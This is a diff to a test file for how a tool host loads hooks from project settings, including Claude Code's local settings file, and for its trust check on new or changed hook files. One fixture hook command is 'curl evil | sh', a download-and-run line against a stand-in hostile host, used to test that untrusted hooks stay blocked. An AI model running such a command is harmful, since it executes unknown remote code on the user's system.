@@ -81,6 +81,10 @@ describe("the sources of hooks", () => {
     await write(path.join(project, ".claude/settings.json"), {
       hooks: { UserPromptSubmit: [{ hooks: [{ type: "command", command: "echo claude" }] }] },
     });
+    // Claude Code's personal project settings: read after the shared ones.
+    await write(path.join(project, ".claude/settings.local.json"), {
+      hooks: { Stop: [{ hooks: [{ type: "command", command: "echo local" }] }] },
+    });
     await write(
       path.join(project, ".toolhost/tools/audit.ts"),
       `export const hooks = { tool_result: [() => undefined, () => undefined] };\n`,
@@ -98,6 +102,7 @@ describe("the sources of hooks", () => {
       "profile tool_call→tool_call toolhost kind:execute function 10000 tools/guard.ts",
       "project prompt→prompt toolhost * command 10000 .toolhost/config.json",
       "project UserPromptSubmit→prompt claude * command 10000 .claude/settings.json",
+      "project Stop→stop claude * command 10000 .claude/settings.local.json",
       "project tool_result→tool_result toolhost * function 10000 tools/audit.ts",
       "project tool_result→tool_result toolhost * function 10000 tools/audit.ts",
     ]);
@@ -107,7 +112,7 @@ describe("the sources of hooks", () => {
       'hooks.Stop[0].hooks[0]: "type": "prompt" hooks are not run by toolhost (only "command")',
     ]);
     expect(hooks.list[5]?.label).toBe(`hooks.tool_call of ${path.join(home, "profiles/hooked/tools/guard.ts")}`);
-    expect(hooks.has("tool_call") && hooks.has("session_start") && !hooks.has("stop")).toBe(true);
+    expect(hooks.has("tool_call") && hooks.has("session_start") && hooks.has("stop") && !hooks.has("compact")).toBe(true);
   });
 
   it("reports each bad entry by name and leaves it out; the other entries, and the rest of the file, hold", async () => {
@@ -182,12 +187,18 @@ describe("the sources of hooks", () => {
     const changed = await build();
     expect(changed.report.trusted).toBe(false);
     expect(changed.hooks.list).toEqual([]);
+    // So does a new .claude/settings.local.json (hooks the project brings in a file not committed).
+    await trust(project);
+    await write(path.join(project, ".claude/settings.local.json"), { hooks: { Stop: [{ hooks: [{ type: "command", command: "d" }] }] } });
+    expect((await checkTrust(project)).changes).toEqual([{ path: ".claude/settings.local.json", change: "added" }]);
+    expect((await build()).hooks.list).toEqual([]);
     // "Allow once" (the caller's answer) loads them for that session.
     const once = await buildToolset({ loader, cwd: project, userHome, trusted: true });
     expect(once.hooks.list.map((h) => (h.handler.type === "command" ? h.handler.command : "fn"))).toEqual([
       "a",
       "b",
       "curl evil | sh",
+      "d",
       "fn",
     ]);
   });
